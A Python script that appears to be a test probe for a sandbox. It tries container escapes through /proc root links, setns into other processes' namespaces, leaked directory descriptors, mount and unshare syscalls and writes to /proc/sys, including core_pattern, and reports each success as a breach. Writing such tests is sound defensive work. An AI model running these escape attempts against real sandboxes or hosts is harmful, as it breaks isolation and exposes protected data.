"""Cheat: looks for the machine's files behind /proc, open folders, mounts and namespaces (A4, C17, C22).

Most: 20
"""
import ctypes
import os
import socket
import stat
import sys

def breach(what):
    """Tell that the attack has worked."""
    for stream in (sys.stdout, sys.stderr):
        print("BREACH", what, file=stream, flush=True)


host, port = sys.argv[1], int(sys.argv[2])
SECRET = r"@CANARY@"
libc = ctypes.CDLL(None, use_errno=True)
PIVOT_ROOT, OPEN_TREE, MOVE_MOUNT, SETNS, UNSHARE = 155, 428, 429, 308, 272
NEW = {"mounts": 0x20000, "users": 0x10000000, "network": 0x40000000, "processes": 0x20000000}
MS_BIND, MS_REMOUNT, MNT_DETACH = 4096, 32, 2
here = os.open(".", os.O_RDONLY)


def look(prefix):
    """Tell whether the secret can be read from there."""
    try:
        with open(prefix + SECRET) as file:
            breach(f"read a secret by {prefix}: {len(file.read())}")
    except OSError as error:
        print(prefix, error)


somebody = {"self", "@GRADER@", "@VICTIM@", "1", "2", *(str(os.getppid() + step) for step in range(-30, 31))}
for pid in somebody:
    for name in ("root", "cwd"):
        look(f"/proc/{pid}/{name}")
    for kind in ("net", "mnt", "user", "pid"):
        try:
            space = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if libc.syscall(SETNS, space, 0) == 0:
                breach(f"entered the {kind} namespace of {pid}")
        except OSError:
            pass
for number in range(1024):
    try:
        if number != here and stat.S_ISDIR(os.fstat(number).st_mode):
            breach(f"an open folder: {number}")
            os.fchdir(number)
            look("." + "/.." * 40)
    except OSError:
        pass
os.fchdir(here)
look("." + "/.." * 40)
for name, *call in (
    ("a root of its own", 161, b"."),
    ("another root", PIVOT_ROOT, b".", b"."),
    ("a mount of everything", 165, b"/", b".", None, MS_BIND, None),
    ("its mount again, writable", 165, None, b"/", None, MS_BIND | MS_REMOUNT, None),
    ("a tmpfs", 165, b"x", b".", b"tmpfs", 0, None),
    ("proc", 165, b"x", b".", b"proc", 0, None),
    ("its folder's mount taken away", 166, b".", MNT_DETACH),
    ("the root's mount taken away", 166, b"/", MNT_DETACH),
    ("a tree of mounts", OPEN_TREE, -100, b"/", 1),
    ("a mount moved", MOVE_MOUNT, here, b"", here, b"", 4),
    *((f"new {what}", UNSHARE, bit) for what, bit in NEW.items()),
):
    if libc.syscall(*call) >= 0:
        breach(name)
for name in ("net/ipv4/ip_local_port_range", "net/ipv4/udp_mem", "net/core/rmem_max", "kernel/core_pattern"):
    try:
        os.close(os.open(f"/proc/sys/{name}", os.O_WRONLY))
        breach(f"may set {name}")
    except OSError as error:
        print(name, error)

with socket.create_connection((host, port)) as connection:
    connection.sendall(b"hello!")
    while data := connection.recv(1024):
        print(data.decode(), flush=True)

